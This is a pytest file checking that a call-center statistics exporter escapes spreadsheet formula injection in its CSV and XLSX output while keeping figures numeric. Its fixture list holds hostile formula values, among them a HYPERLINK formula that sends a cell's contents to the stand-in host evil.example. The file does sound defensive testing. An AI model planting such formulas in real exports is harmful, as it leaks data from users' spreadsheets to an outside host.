"""Statistics exports cannot carry spreadsheet formulas (OWASP "CSV injection"): a group name or an answer value
that starts like a formula is text in the CSV (leading ') and in the XLSX (a string cell with Excel's quote
prefix), while the figures stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from openpyxl import load_workbook

from callcenter.statistics import CallCounts, Dimension, TaskCounts, report
from callcenter.statistics_export import to_csv, to_xlsx

HOSTILE = ('=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1+1", "-2+3", "@SUM(1,1)", "\t=1", "\r=1",
           "＝1+1")


def _report():  # type: ignore[no-untyped-def]
    groups = {name: TaskCounts(tasks_due=3, completed=2, attempted=3, contacted=2) for name in HOSTILE}
    groups["心内科"] = TaskCounts(tasks_due=4, completed=1)
    return report(start=date(2026, 11, 1), end=date(2026, 11, 3), dimension=Dimension.department, tasks=groups,
                  calls={}, total_calls=CallCounts(calls=7, answered_calls=5, talk_us_total=300_000_000),
                  calls_by_hour=[0] * 24, days={},
                  answers={("t_call", "feeling"): {"=1+2": 2, "-1": 1, "yes": 4}})


def test_csv_text_cells_that_start_like_a_formula_are_escaped_and_numbers_stay_numbers() -> None:
    rows = list(csv.reader(io.StringIO(to_csv(_report()).decode("utf-8-sig"))))
    groups = {row[0]: row for row in rows if row and row[0].lstrip("'") in HOSTILE}
    assert sorted(groups) == sorted(f"'{name}" for name in HOSTILE)
    assert groups["'+1+1"][1:3] == ["3", "2"]
    answers = {row[2]: row[3] for row in rows if len(row) == 4 and row[:2] == ["t_call", "feeling"]}
    assert answers == {"'=1+2": "2", "'-1": "1", "yes": "4"}
    total = next(row for row in rows if row and row[0] == "合计")
    assert total[1] == "25" and total[20] == "5"  # tasks due, answered calls


def test_csv_quotes_texts_but_writes_numbers_bare() -> None:
    text = to_csv(_report()).decode("utf-8-sig")
    assert '"\'=1+2",2\r\n' in text and '"心内科",4,1,' in text


@pytest.mark.parametrize("sheet_name, column, plain, hostile", [
    ("figures", 1, {"心内科", "合计"}, {h.replace("\r", "\n") for h in HOSTILE}),  # XML reads a CR back as LF
    ("answers", 3, {"yes"}, {"=1+2", "-1"}),
])
def test_xlsx_text_cells_are_strings_never_formulas(sheet_name: str, column: int, plain: set[str],
                                                    hostile: set[str]) -> None:
    sheet = load_workbook(io.BytesIO(to_xlsx(_report())))[sheet_name]
    cells = [row[column - 1] for row in sheet.iter_rows(min_row=2)]
    assert {c.value for c in cells} == plain | hostile and all(c.data_type == "s" for c in cells)
    # Excel's quote prefix ('=…) on exactly the texts that start like a formula
    assert {c.value: c.quotePrefix for c in cells} == {v: v in hostile for v in plain | hostile}
    if sheet_name == "figures":
        numbers = [c for row in sheet.iter_rows(min_row=2, min_col=2, max_col=7) for c in row]
        assert numbers and all(c.data_type == "n" and isinstance(c.value, int) for c in numbers)
    else:
        assert [c.value for c in sheet["D"][1:]] == [4, 2, 1] and sheet["D2"].data_type == "n"


def test_xlsx_export_survives_control_characters_in_answers() -> None:
    # free text pasted from elsewhere can carry control characters that XLSX (XML 1.0) cannot hold
    answers = {("t_call", "note"): {"头晕\x07两天\x1b": 1, "ok": 2}}
    result = report(start=date(2026, 11, 1), end=date(2026, 11, 3), dimension=Dimension.department, tasks={},
                    calls={}, total_calls=CallCounts(), calls_by_hour=[0] * 24, days={}, answers=answers)
    sheet = load_workbook(io.BytesIO(to_xlsx(result)))["answers"]
    assert sorted(row[2].value for row in sheet.iter_rows(min_row=2)) == ["ok", "头晕\ufffd两天\ufffd"]
